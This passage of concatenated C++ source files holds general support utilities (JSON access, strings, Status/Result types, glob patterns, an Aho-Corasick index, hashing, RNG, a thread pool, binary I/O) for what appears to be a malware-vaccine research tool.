  if (end == nullptr || *end != '\0') {
    return Status::InvalidArgument("not a double: " + number);
  }
  return out;
}

Result<bool> JsonValue::AsBool() const {
  if (kind != Kind::kBool) {
    return Status::InvalidArgument("JSON value is not a bool");
  }
  return bool_value;
}

Result<std::string> JsonValue::AsString() const {
  if (kind != Kind::kString) {
    return Status::InvalidArgument("JSON value is not a string");
  }
  return string_value;
}

Result<JsonValue> ParseJson(std::string_view text) {
  return Parser(text).Parse();
}

namespace {
Result<const JsonValue*> RequireField(const JsonValue& object,
                                      std::string_view key) {
  const JsonValue* field = object.Find(key);
  if (field == nullptr) {
    return Status::InvalidArgument("missing JSON field: " + std::string(key));
  }
  return field;
}
}  // namespace

Result<uint64_t> JsonFieldUint64(const JsonValue& object,
                                 std::string_view key) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue* field,
                           RequireField(object, key));
  return field->AsUint64();
}

Result<std::string> JsonFieldString(const JsonValue& object,
                                    std::string_view key) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue* field,
                           RequireField(object, key));
  return field->AsString();
}

Result<bool> JsonFieldBool(const JsonValue& object, std::string_view key) {
  AUTOVAC_ASSIGN_OR_RETURN(const JsonValue* field,
                           RequireField(object, key));
  return field->AsBool();
}

}  // namespace autovac
