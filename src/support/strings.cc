#include "support/strings.h"

#include <cctype>
#include <cstdarg>
#include <cstdio>

namespace autovac {

std::string StrFormat(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  va_list args_copy;
  va_copy(args_copy, args);
  const int needed = std::vsnprintf(nullptr, 0, fmt, args);
  va_end(args);
  if (needed < 0) {
    va_end(args_copy);
    return {};
  }
  std::string out(static_cast<size_t>(needed), '\0');
  std::vsnprintf(out.data(), out.size() + 1, fmt, args_copy);
  va_end(args_copy);
  return out;
}

std::string StrJoin(const std::vector<std::string>& parts,
                    std::string_view sep) {
  std::string out;
  for (size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::vector<std::string> StrSplit(std::string_view text,
                                  std::string_view delims, bool keep_empty) {
  std::vector<std::string> out;
  std::string current;
  for (char c : text) {
    if (delims.find(c) != std::string_view::npos) {
      if (!current.empty() || keep_empty) out.push_back(current);
      current.clear();
    } else {
      current.push_back(c);
    }
  }
  if (!current.empty() || keep_empty) out.push_back(current);
  return out;
}

std::string ToLower(std::string_view text) {
  std::string out(text);
  for (char& c : out) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return out;
}

std::string ToUpper(std::string_view text) {
  std::string out(text);
  for (char& c : out) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  return out;
}

bool EqualsIgnoreCase(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i]))) {
      return false;
    }
  }
  return true;
}

std::string_view StripWhitespace(std::string_view text) {
  size_t begin = 0;
  while (begin < text.size() &&
         std::isspace(static_cast<unsigned char>(text[begin]))) {
    ++begin;
  }
  size_t end = text.size();
  while (end > begin &&
         std::isspace(static_cast<unsigned char>(text[end - 1]))) {
    --end;
  }
  return text.substr(begin, end - begin);
}

bool IsPrintableAscii(std::string_view text) {
  for (char c : text) {
    if (c < 0x20 || c > 0x7E) return false;
  }
  return true;
}

std::string CEscape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    if (c >= 0x20 && c <= 0x7E && c != '\\') {
      out.push_back(c);
    } else {
      out += StrFormat("\\x%02X", static_cast<unsigned char>(c));
    }
  }
  return out;
}

std::string JsonEscape(std::string_view text) {
  std::string out;
  out.reserve(text.size());
  for (char c : text) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          out += StrFormat("\\u%04X", static_cast<unsigned char>(c));
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

bool ParseUint64(std::string_view text, uint64_t* out) {
  if (text.empty()) return false;
  uint64_t value = 0;
  for (char c : text) {
    if (c < '0' || c > '9') return false;
    const uint64_t digit = static_cast<uint64_t>(c - '0');
    if (value > (UINT64_MAX - digit) / 10) return false;  // overflow
    value = value * 10 + digit;
  }
  *out = value;
  return true;
}

bool ParseInt64(std::string_view text, int64_t* out) {
  bool negative = false;
  if (!text.empty() && (text[0] == '-' || text[0] == '+')) {
    negative = text[0] == '-';
    text.remove_prefix(1);
  }
  uint64_t magnitude = 0;
  if (!ParseUint64(text, &magnitude)) return false;
  if (negative) {
    if (magnitude > static_cast<uint64_t>(INT64_MAX) + 1) return false;
    *out = static_cast<int64_t>(~magnitude + 1);
  } else {
    if (magnitude > static_cast<uint64_t>(INT64_MAX)) return false;
    *out = static_cast<int64_t>(magnitude);
  }
  return true;
}

size_t CommonPrefixLength(std::string_view a, std::string_view b) {
  const size_t limit = std::min(a.size(), b.size());
  size_t i = 0;
  while (i < limit && a[i] == b[i]) ++i;
  return i;
}

}  // namespace autovac
