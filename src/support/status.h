// Lightweight Status / Result<T> error-propagation types.
//
// Expected, recoverable failures (bad assembly input, lookup misses,
// malformed traces) travel as values; exceptions are reserved for
// programmer errors (checked with AUTOVAC_CHECK).
#pragma once

#include <cstdlib>
#include <optional>
#include <stdexcept>
#include <string>
#include <utility>
#include <variant>

namespace autovac {

enum class StatusCode {
  kOk = 0,
  kInvalidArgument,
  kNotFound,
  kAlreadyExists,
  kPermissionDenied,
  kFailedPrecondition,
  kOutOfRange,
  kUnimplemented,
  kInternal,
  kDeadlineExceeded,
};

[[nodiscard]] constexpr const char* StatusCodeName(StatusCode code) {
  switch (code) {
    case StatusCode::kOk: return "OK";
    case StatusCode::kInvalidArgument: return "INVALID_ARGUMENT";
    case StatusCode::kNotFound: return "NOT_FOUND";
    case StatusCode::kAlreadyExists: return "ALREADY_EXISTS";
    case StatusCode::kPermissionDenied: return "PERMISSION_DENIED";
    case StatusCode::kFailedPrecondition: return "FAILED_PRECONDITION";
    case StatusCode::kOutOfRange: return "OUT_OF_RANGE";
    case StatusCode::kUnimplemented: return "UNIMPLEMENTED";
    case StatusCode::kInternal: return "INTERNAL";
    case StatusCode::kDeadlineExceeded: return "DEADLINE_EXCEEDED";
  }
  return "UNKNOWN";
}

// A status is a code plus a human-readable message. Copyable, cheap when OK.
class Status {
 public:
  Status() = default;
  Status(StatusCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  static Status Ok() { return Status(); }
  static Status InvalidArgument(std::string msg) {
    return Status(StatusCode::kInvalidArgument, std::move(msg));
  }
  static Status NotFound(std::string msg) {
    return Status(StatusCode::kNotFound, std::move(msg));
  }
  static Status AlreadyExists(std::string msg) {
    return Status(StatusCode::kAlreadyExists, std::move(msg));
  }
  static Status PermissionDenied(std::string msg) {
    return Status(StatusCode::kPermissionDenied, std::move(msg));
  }
  static Status FailedPrecondition(std::string msg) {
    return Status(StatusCode::kFailedPrecondition, std::move(msg));
  }
  static Status OutOfRange(std::string msg) {
    return Status(StatusCode::kOutOfRange, std::move(msg));
  }
  static Status Unimplemented(std::string msg) {
    return Status(StatusCode::kUnimplemented, std::move(msg));
  }
  static Status Internal(std::string msg) {
    return Status(StatusCode::kInternal, std::move(msg));
  }
  static Status DeadlineExceeded(std::string msg) {
    return Status(StatusCode::kDeadlineExceeded, std::move(msg));
  }

  [[nodiscard]] bool ok() const { return code_ == StatusCode::kOk; }
  [[nodiscard]] StatusCode code() const { return code_; }
  [[nodiscard]] const std::string& message() const { return message_; }

  [[nodiscard]] std::string ToString() const {
    if (ok()) return "OK";
    return std::string(StatusCodeName(code_)) + ": " + message_;
  }

  friend bool operator==(const Status& a, const Status& b) {
    return a.code_ == b.code_;
  }

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
};

// Result<T>: either a value or a non-OK status.
template <typename T>
class Result {
 public:
  Result(T value) : data_(std::move(value)) {}  // NOLINT(google-explicit-constructor)
  Result(Status status) : data_(std::move(status)) {  // NOLINT
    if (std::get<Status>(data_).ok()) {
      throw std::logic_error("Result constructed from OK status");
    }
  }

  [[nodiscard]] bool ok() const { return std::holds_alternative<T>(data_); }

  [[nodiscard]] Status status() const {
    if (ok()) return Status::Ok();
    return std::get<Status>(data_);
  }

  [[nodiscard]] const T& value() const& {
    EnsureOk();
    return std::get<T>(data_);
  }
  [[nodiscard]] T& value() & {
    EnsureOk();
    return std::get<T>(data_);
  }
  [[nodiscard]] T&& value() && {
    EnsureOk();
    return std::get<T>(std::move(data_));
  }

  [[nodiscard]] const T& operator*() const& { return value(); }
  [[nodiscard]] T& operator*() & { return value(); }
  [[nodiscard]] const T* operator->() const { return &value(); }
  [[nodiscard]] T* operator->() { return &value(); }

  [[nodiscard]] T value_or(T fallback) const {
    if (ok()) return std::get<T>(data_);
    return fallback;
  }

 private:
  void EnsureOk() const {
    if (!ok()) {
      throw std::logic_error("Result::value() on error: " +
                             std::get<Status>(data_).ToString());
    }
  }

  std::variant<T, Status> data_;
};

namespace internal {
[[noreturn]] void CheckFailed(const char* file, int line, const char* expr,
                              const std::string& message);

// Normalizes Status / Result<T> to Status for AUTOVAC_RETURN_IF_ERROR.
inline Status ToStatus(Status status) { return status; }
template <typename T>
Status ToStatus(const Result<T>& result) {
  return result.status();
}
}  // namespace internal

// Propagates a non-OK Status (or the status of a Result<T>) out of the
// enclosing function, which may itself return Status or any Result<U>.
#define AUTOVAC_RETURN_IF_ERROR(expr)                                     \
  do {                                                                    \
    if (auto _autovac_st = (expr); !_autovac_st.ok()) {                   \
      return ::autovac::internal::ToStatus(std::move(_autovac_st));       \
    }                                                                     \
  } while (0)

// Evaluates a Result<T> expression; on success assigns the value to
// `lhs` (which may declare a new variable), on error returns the status.
#define AUTOVAC_ASSIGN_OR_RETURN(lhs, expr)                               \
  AUTOVAC_ASSIGN_OR_RETURN_IMPL_(                                         \
      AUTOVAC_MACRO_CONCAT_(_autovac_result_, __LINE__), lhs, expr)

#define AUTOVAC_ASSIGN_OR_RETURN_IMPL_(tmp, lhs, expr)                    \
  auto tmp = (expr);                                                      \
  if (!tmp.ok()) return tmp.status();                                     \
  lhs = std::move(tmp).value()

#define AUTOVAC_MACRO_CONCAT_INNER_(a, b) a##b
#define AUTOVAC_MACRO_CONCAT_(a, b) AUTOVAC_MACRO_CONCAT_INNER_(a, b)

// Programmer-error assertion, active in all build types.
#define AUTOVAC_CHECK(expr)                                              \
  do {                                                                   \
    if (!(expr)) {                                                       \
      ::autovac::internal::CheckFailed(__FILE__, __LINE__, #expr, "");   \
    }                                                                    \
  } while (0)

#define AUTOVAC_CHECK_MSG(expr, msg)                                     \
  do {                                                                   \
    if (!(expr)) {                                                       \
      ::autovac::internal::CheckFailed(__FILE__, __LINE__, #expr, msg);  \
    }                                                                    \
  } while (0)

}  // namespace autovac
