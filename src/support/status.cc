#include "support/status.h"

#include <cstdio>

namespace autovac::internal {

void CheckFailed(const char* file, int line, const char* expr,
                 const std::string& message) {
  std::string what = std::string("CHECK failed at ") + file + ":" +
                     std::to_string(line) + ": " + expr;
  if (!message.empty()) what += " — " + message;
  std::fputs((what + "\n").c_str(), stderr);
  throw std::logic_error(what);
}

}  // namespace autovac::internal
