// Wildcard patterns for partial-static vaccine identifiers.
//
// The paper expresses partial-static identifiers as regular expressions;
// every pattern the pipeline actually generates is "literal fragments with
// variable gaps", which wildcards capture exactly (see DESIGN.md §5):
//   '*'  — any run of characters (including empty)
//   '?'  — any single character
//   '\x' — literal x
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "support/status.h"

namespace autovac {

class Pattern {
 public:
  // Compiles the pattern; malformed input (trailing backslash) is an error.
  static Result<Pattern> Compile(std::string_view text);

  // Builds a pattern matching `literal` exactly (all metacharacters escaped).
  static Pattern Literal(std::string_view literal);

  [[nodiscard]] bool Matches(std::string_view text) const;

  // The pattern source text.
  [[nodiscard]] const std::string& text() const { return text_; }

  // True when the pattern contains no wildcards (it is a plain literal).
  [[nodiscard]] bool is_literal() const { return literal_only_; }

  // Number of literal (non-wildcard) characters; a proxy for how
  // "distinguishable" a partial-static identifier is.
  [[nodiscard]] size_t literal_length() const { return literal_length_; }

  // Maximal runs of literal characters, in pattern order, with escapes
  // resolved (the fragment for `\*lit` is "*lit"). Every matching text
  // contains each fragment as a substring, in order — the invariant the
  // compiled match index (support/match_index.h) anchors on. Derived from
  // the compiled token stream, never from text(), so adjacent wildcards
  // ("a**b", "a*?*b") and escaped metacharacters can't make the index
  // disagree with Matches(). Empty for all-wildcard patterns; a pure
  // literal yields exactly one fragment unless the pattern is "".
  [[nodiscard]] const std::vector<std::string>& fragments() const {
    return fragments_;
  }

 private:
  enum class TokenKind { kChar, kAnyOne, kAnyRun };
  struct Token {
    TokenKind kind;
    char ch = 0;
  };

  std::string text_;
  std::vector<Token> tokens_;
  std::vector<std::string> fragments_;  // built by Compile from tokens_
  bool literal_only_ = true;
  size_t literal_length_ = 0;
};

}  // namespace autovac
