#include "support/digest.h"

#include "support/strings.h"

namespace autovac {

uint64_t Fnv1a64(std::string_view bytes) {
  uint64_t hash = 0xCBF29CE484222325ULL;
  for (char c : bytes) {
    hash ^= static_cast<unsigned char>(c);
    hash *= 0x100000001B3ULL;
  }
  return hash;
}

uint32_t Fnv1a32(std::string_view bytes) {
  uint32_t hash = 0x811C9DC5U;
  for (char c : bytes) {
    hash ^= static_cast<unsigned char>(c);
    hash *= 0x01000193U;
  }
  return hash;
}

std::string HexDigest128(std::string_view bytes) {
  // Two independent 64-bit lanes: plain FNV-1a and FNV-1a over the
  // byte-reversed input with a different offset basis.
  const uint64_t lane0 = Fnv1a64(bytes);
  uint64_t lane1 = 0x6C62272E07BB0142ULL;
  for (auto it = bytes.rbegin(); it != bytes.rend(); ++it) {
    lane1 ^= static_cast<unsigned char>(*it);
    lane1 *= 0x100000001B3ULL;
  }
  return StrFormat("%016llx%016llx",
                   static_cast<unsigned long long>(lane0),
                   static_cast<unsigned long long>(lane1));
}

}  // namespace autovac
