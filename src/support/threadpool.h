// A small fixed-size worker pool for the mutation fan-out. Deliberately
// minimal: submit closures, wait for the queue to drain. Determinism is
// the caller's job — the pipeline merges speculative results in target
// order, so scheduling order here never reaches a report.
//
// Fork safety: create the pool, use it, and destroy it within one scope
// on one thread. Campaign workers fork; a pool must never be alive
// across a fork (the child would inherit locked mutexes and dead
// threads), which the pipeline guarantees by scoping the pool to a
// single phase-2 call.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace autovac {

class ThreadPool {
 public:
  // Spawns `num_threads` workers (at least 1).
  explicit ThreadPool(size_t num_threads);
  // Drains remaining work, then joins the workers.
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  void Submit(std::function<void()> task);

  // Blocks until the queue is empty and no worker is mid-task.
  void Wait();

  [[nodiscard]] size_t num_threads() const { return workers_.size(); }

 private:
  void WorkerLoop();

  std::mutex mutex_;
  std::condition_variable work_cv_;  // signals workers: task or shutdown
  std::condition_variable idle_cv_;  // signals Wait(): drained and idle
  std::deque<std::function<void()>> queue_;
  size_t active_ = 0;
  bool shutdown_ = false;
  std::vector<std::thread> workers_;
};

}  // namespace autovac
