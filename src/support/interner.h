// String interner: maps strings to dense uint32_t ids and back. Used by
// the taint-label store and trace logs to keep records small.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "support/status.h"

namespace autovac {

class StringInterner {
 public:
  static constexpr uint32_t kInvalidId = UINT32_MAX;

  // Returns the id for `text`, inserting it if new.
  uint32_t Intern(std::string_view text) {
    auto it = ids_.find(std::string(text));
    if (it != ids_.end()) return it->second;
    const auto id = static_cast<uint32_t>(strings_.size());
    strings_.emplace_back(text);
    ids_.emplace(strings_.back(), id);
    return id;
  }

  // Returns the id for `text` or kInvalidId when absent.
  [[nodiscard]] uint32_t Find(std::string_view text) const {
    auto it = ids_.find(std::string(text));
    return it == ids_.end() ? kInvalidId : it->second;
  }

  [[nodiscard]] const std::string& Lookup(uint32_t id) const {
    AUTOVAC_CHECK_MSG(id < strings_.size(), "interner id out of range");
    return strings_[id];
  }

  [[nodiscard]] size_t size() const { return strings_.size(); }

 private:
  std::vector<std::string> strings_;
  std::unordered_map<std::string, uint32_t> ids_;
};

}  // namespace autovac
