#include "support/match_index.h"

#include <algorithm>
#include <deque>

namespace autovac {
namespace {

// The anchor is the longest fragment: it is the most selective substring
// every matching text must contain, so it produces the fewest false
// candidates. Ties break toward the earliest fragment.
const std::string& AnchorFragment(const Pattern& pattern) {
  const std::vector<std::string>& fragments = pattern.fragments();
  size_t best = 0;
  for (size_t i = 1; i < fragments.size(); ++i) {
    if (fragments[i].size() > fragments[best].size()) best = i;
  }
  return fragments[best];
}

}  // namespace

size_t PatternIndex::Add(Pattern pattern) {
  patterns_.push_back(std::move(pattern));
  built_ = false;
  return patterns_.size() - 1;
}

int32_t PatternIndex::EdgeTarget(int32_t node, unsigned char byte) const {
  const std::vector<std::pair<unsigned char, int32_t>>& edges =
      nodes_[node].edges;
  auto it = std::lower_bound(
      edges.begin(), edges.end(), byte,
      [](const std::pair<unsigned char, int32_t>& edge, unsigned char b) {
        return edge.first < b;
      });
  if (it != edges.end() && it->first == byte) return it->second;
  return -1;
}

void PatternIndex::Build() {
  literals_.clear();
  floating_.clear();
  nodes_.assign(1, Node{});
  literal_count_ = 0;
  anchored_count_ = 0;

  // Partition patterns and grow the trie of anchors.
  for (size_t id = 0; id < patterns_.size(); ++id) {
    const Pattern& pattern = patterns_[id];
    if (pattern.is_literal()) {
      const std::string text = pattern.fragments().empty()
                                   ? std::string()
                                   : pattern.fragments().front();
      literals_[text].push_back(id);
      ++literal_count_;
      continue;
    }
    if (pattern.fragments().empty()) {
      floating_.push_back(id);
      continue;
    }
    ++anchored_count_;
    const std::string& anchor = AnchorFragment(pattern);
    int32_t node = 0;
    for (char c : anchor) {
      const unsigned char byte = static_cast<unsigned char>(c);
      int32_t next = EdgeTarget(node, byte);
      if (next < 0) {
        next = static_cast<int32_t>(nodes_.size());
        nodes_[node].edges.emplace_back(byte, next);
        std::sort(nodes_[node].edges.begin(), nodes_[node].edges.end());
        nodes_.push_back(Node{});
      }
      node = next;
    }
    nodes_[node].outputs.push_back(id);
  }

  // BFS failure links (classic Aho-Corasick) plus dictionary-suffix
  // links so a query only visits fail-chain nodes that carry outputs.
  std::deque<int32_t> queue;
  for (const auto& [byte, child] : nodes_[0].edges) {
    (void)byte;
    nodes_[child].fail = 0;
    queue.push_back(child);
  }
  while (!queue.empty()) {
    const int32_t node = queue.front();
    queue.pop_front();
    const int32_t fail = nodes_[node].fail;
    nodes_[node].dict_suffix = nodes_[fail].outputs.empty()
                                   ? nodes_[fail].dict_suffix
                                   : fail;
    for (const auto& [byte, child] : nodes_[node].edges) {
      int32_t probe = fail;
      int32_t target = EdgeTarget(probe, byte);
      while (target < 0 && probe != 0) {
        probe = nodes_[probe].fail;
        target = EdgeTarget(probe, byte);
      }
      // `target` sits strictly shallower than `child`, so no self-loops.
      nodes_[child].fail = target >= 0 ? target : 0;
      queue.push_back(child);
    }
  }
  built_ = true;
}

void PatternIndex::CollectCandidates(std::string_view text,
                                     std::vector<size_t>& candidates) const {
  // Floating patterns are candidates for every text.
  candidates.insert(candidates.end(), floating_.begin(), floating_.end());

  if (nodes_.size() > 1) {
    int32_t node = 0;
    for (char c : text) {
      const unsigned char byte = static_cast<unsigned char>(c);
      int32_t target = EdgeTarget(node, byte);
      while (target < 0 && node != 0) {
        node = nodes_[node].fail;
        target = EdgeTarget(node, byte);
      }
      node = target >= 0 ? target : 0;
      // Every dict_suffix target carries outputs, so the chain is short.
      int32_t hit = nodes_[node].outputs.empty() ? nodes_[node].dict_suffix
                                                 : node;
      for (; hit >= 0; hit = nodes_[hit].dict_suffix) {
        candidates.insert(candidates.end(), nodes_[hit].outputs.begin(),
                          nodes_[hit].outputs.end());
      }
    }
  }

  // A pattern whose anchor occurs several times is collected once.
  std::sort(candidates.begin(), candidates.end());
  candidates.erase(std::unique(candidates.begin(), candidates.end()),
                   candidates.end());
}

std::vector<size_t> PatternIndex::Match(std::string_view text) const {
  AUTOVAC_CHECK(built_);
  std::vector<size_t> matched;

  // Exact-text hash hit for pure literals.
  if (auto it = literals_.find(std::string(text)); it != literals_.end()) {
    matched = it->second;
  }

  std::vector<size_t> candidates;
  CollectCandidates(text, candidates);
  for (size_t id : candidates) {
    if (patterns_[id].Matches(text)) matched.push_back(id);
  }
  std::sort(matched.begin(), matched.end());
  return matched;
}

size_t PatternIndex::First(std::string_view text) const {
  AUTOVAC_CHECK(built_);
  size_t best = SIZE_MAX;
  if (auto it = literals_.find(std::string(text)); it != literals_.end()) {
    best = it->second.front();  // ids per literal are ascending
  }
  std::vector<size_t> candidates;
  CollectCandidates(text, candidates);
  for (size_t id : candidates) {
    if (id >= best) break;  // candidates are ascending
    if (patterns_[id].Matches(text)) {
      best = id;
      break;
    }
  }
  return best;
}

}  // namespace autovac
