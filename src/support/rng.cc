#include "support/rng.h"

#include "support/status.h"

namespace autovac {
namespace {

uint64_t SplitMix64(uint64_t& state) {
  uint64_t z = (state += 0x9E3779B97F4A7C15ULL);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

uint64_t Rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

}  // namespace

void Rng::Seed(uint64_t seed) {
  uint64_t sm = seed;
  for (auto& lane : state_) lane = SplitMix64(sm);
}

uint64_t Rng::NextU64() {
  const uint64_t result = Rotl(state_[1] * 5, 7) * 9;
  const uint64_t t = state_[1] << 17;
  state_[2] ^= state_[0];
  state_[3] ^= state_[1];
  state_[1] ^= state_[2];
  state_[0] ^= state_[3];
  state_[2] ^= t;
  state_[3] = Rotl(state_[3], 45);
  return result;
}

uint64_t Rng::NextBelow(uint64_t bound) {
  AUTOVAC_CHECK_MSG(bound > 0, "NextBelow(0)");
  // Rejection sampling to avoid modulo bias.
  const uint64_t threshold = (0 - bound) % bound;
  for (;;) {
    const uint64_t r = NextU64();
    if (r >= threshold) return r % bound;
  }
}

int64_t Rng::NextInRange(int64_t lo, int64_t hi) {
  AUTOVAC_CHECK_MSG(lo <= hi, "NextInRange: lo > hi");
  const uint64_t span = static_cast<uint64_t>(hi - lo) + 1;
  if (span == 0) return static_cast<int64_t>(NextU64());  // full range
  return lo + static_cast<int64_t>(NextBelow(span));
}

double Rng::NextDouble() {
  return static_cast<double>(NextU64() >> 11) * 0x1.0p-53;
}

bool Rng::NextBool(double p) { return NextDouble() < p; }

std::string Rng::NextIdentifier(size_t length) {
  static constexpr char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out;
  out.reserve(length);
  for (size_t i = 0; i < length; ++i) {
    // First character alphabetical so the result is identifier-shaped.
    const size_t span = (i == 0) ? 26 : (sizeof(kAlphabet) - 1);
    out.push_back(kAlphabet[NextBelow(span)]);
  }
  return out;
}

size_t Rng::PickWeighted(const std::vector<double>& weights) {
  AUTOVAC_CHECK_MSG(!weights.empty(), "PickWeighted on empty weights");
  double total = 0;
  for (double w : weights) {
    AUTOVAC_CHECK_MSG(w >= 0, "negative weight");
    total += w;
  }
  AUTOVAC_CHECK_MSG(total > 0, "all weights zero");
  double target = NextDouble() * total;
  for (size_t i = 0; i < weights.size(); ++i) {
    target -= weights[i];
    if (target < 0) return i;
  }
  return weights.size() - 1;
}

Rng Rng::Fork(std::string_view label) {
  return Rng(NextU64() ^ HashSeed(label));
}

uint64_t HashSeed(std::string_view text) {
  // FNV-1a 64-bit.
  uint64_t hash = 0xCBF29CE484222325ULL;
  for (char c : text) {
    hash ^= static_cast<unsigned char>(c);
    hash *= 0x100000001B3ULL;
  }
  return hash;
}

}  // namespace autovac
