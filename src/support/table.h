// Plain-text table renderer used by the bench harness to print the paper's
// tables with aligned columns.
#pragma once

#include <string>
#include <vector>

namespace autovac {

class TextTable {
 public:
  explicit TextTable(std::vector<std::string> header)
      : header_(std::move(header)) {}

  void AddRow(std::vector<std::string> cells) {
    rows_.push_back(std::move(cells));
  }

  // Renders with a header separator; short rows are padded with blanks.
  [[nodiscard]] std::string Render() const;

 private:
  std::vector<std::string> header_;
  std::vector<std::vector<std::string>> rows_;
};

}  // namespace autovac
