#include "support/pattern.h"

#include <vector>

namespace autovac {

Result<Pattern> Pattern::Compile(std::string_view text) {
  Pattern pattern;
  pattern.text_ = std::string(text);
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (c == '*') {
      // Collapse runs of '*' into one token.
      if (pattern.tokens_.empty() ||
          pattern.tokens_.back().kind != TokenKind::kAnyRun) {
        pattern.tokens_.push_back({TokenKind::kAnyRun});
      }
      pattern.literal_only_ = false;
    } else if (c == '?') {
      pattern.tokens_.push_back({TokenKind::kAnyOne});
      pattern.literal_only_ = false;
    } else if (c == '\\') {
      if (i + 1 >= text.size()) {
        return Status::InvalidArgument("pattern ends with bare backslash: " +
                                       std::string(text));
      }
      pattern.tokens_.push_back({TokenKind::kChar, text[++i]});
      ++pattern.literal_length_;
    } else {
      pattern.tokens_.push_back({TokenKind::kChar, c});
      ++pattern.literal_length_;
    }
  }
  // Fragments come from the token stream, not the raw text: escapes are
  // already resolved and runs of wildcards already collapsed, so the
  // match index and Matches() can never disagree about what a fragment is.
  bool fragment_open = false;
  for (const Token& token : pattern.tokens_) {
    if (token.kind == TokenKind::kChar) {
      if (!fragment_open) pattern.fragments_.emplace_back();
      pattern.fragments_.back().push_back(token.ch);
      fragment_open = true;
    } else {
      fragment_open = false;
    }
  }
  return pattern;
}

Pattern Pattern::Literal(std::string_view literal) {
  std::string escaped;
  escaped.reserve(literal.size());
  for (char c : literal) {
    if (c == '*' || c == '?' || c == '\\') escaped.push_back('\\');
    escaped.push_back(c);
  }
  auto result = Compile(escaped);
  AUTOVAC_CHECK(result.ok());
  return std::move(result).value();
}

bool Pattern::Matches(std::string_view text) const {
  // Iterative glob match with single backtrack point per '*' (classic
  // two-pointer algorithm, linear in practice).
  size_t ti = 0, pi = 0;
  size_t star_pi = SIZE_MAX, star_ti = 0;
  while (ti < text.size()) {
    if (pi < tokens_.size() &&
        (tokens_[pi].kind == TokenKind::kAnyOne ||
         (tokens_[pi].kind == TokenKind::kChar && tokens_[pi].ch == text[ti]))) {
      ++ti;
      ++pi;
    } else if (pi < tokens_.size() && tokens_[pi].kind == TokenKind::kAnyRun) {
      star_pi = pi++;
      star_ti = ti;
    } else if (star_pi != SIZE_MAX) {
      pi = star_pi + 1;
      ti = ++star_ti;
    } else {
      return false;
    }
  }
  while (pi < tokens_.size() && tokens_[pi].kind == TokenKind::kAnyRun) ++pi;
  return pi == tokens_.size();
}

}  // namespace autovac
