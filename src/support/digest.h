// Content digests for sample fingerprints (stands in for the MD5 column of
// the paper's Table III — see DESIGN.md §5) and hash-style identifier
// derivation inside synthetic malware.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>

namespace autovac {

// 128-bit FNV-style digest rendered as 32 hex characters.
[[nodiscard]] std::string HexDigest128(std::string_view bytes);

// 64-bit FNV-1a.
[[nodiscard]] uint64_t Fnv1a64(std::string_view bytes);

// 32-bit FNV-1a (what the synthetic Conficker model uses to derive its
// per-host mutex name from the computer name).
[[nodiscard]] uint32_t Fnv1a32(std::string_view bytes);

}  // namespace autovac
