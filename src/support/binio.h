// Little-endian binary encode/decode primitives shared by the vacstore
// checkpoint codec, the vaccine wire codec and the vacd binary protocol.
//
// Writers append to a std::string (the framing layers all deal in byte
// strings); the reader is a bounds-checked cursor over an immutable view
// — every accessor reports truncation instead of reading past the end,
// so a torn or hostile payload degrades to a parse error, never UB.
#pragma once

#include <cstdint>
#include <cstring>
#include <string>
#include <string_view>

namespace autovac {

inline void PutU8(std::string& out, uint8_t value) {
  out.push_back(static_cast<char>(value));
}

inline void PutU32(std::string& out, uint32_t value) {
  for (int shift = 0; shift < 32; shift += 8) {
    out.push_back(static_cast<char>((value >> shift) & 0xFF));
  }
}

inline void PutU64(std::string& out, uint64_t value) {
  for (int shift = 0; shift < 64; shift += 8) {
    out.push_back(static_cast<char>((value >> shift) & 0xFF));
  }
}

inline void PutF64(std::string& out, double value) {
  uint64_t bits;
  static_assert(sizeof(bits) == sizeof(value));
  std::memcpy(&bits, &value, sizeof(bits));
  PutU64(out, bits);
}

inline void PutStr(std::string& out, std::string_view text) {
  PutU32(out, static_cast<uint32_t>(text.size()));
  out.append(text);
}

// Bounds-checked cursor over an encoded image. Each accessor returns
// false on truncation and leaves the cursor wherever it stopped.
struct BinReader {
  std::string_view data;
  size_t pos = 0;

  bool U8(uint8_t* out) {
    if (pos + 1 > data.size()) return false;
    *out = static_cast<uint8_t>(data[pos++]);
    return true;
  }
  bool U32(uint32_t* out) {
    if (pos + 4 > data.size()) return false;
    *out = 0;
    for (int shift = 0; shift < 32; shift += 8) {
      *out |= static_cast<uint32_t>(static_cast<unsigned char>(data[pos++]))
              << shift;
    }
    return true;
  }
  bool U64(uint64_t* out) {
    if (pos + 8 > data.size()) return false;
    *out = 0;
    for (int shift = 0; shift < 64; shift += 8) {
      *out |= static_cast<uint64_t>(static_cast<unsigned char>(data[pos++]))
              << shift;
    }
    return true;
  }
  bool F64(double* out) {
    uint64_t bits;
    if (!U64(&bits)) return false;
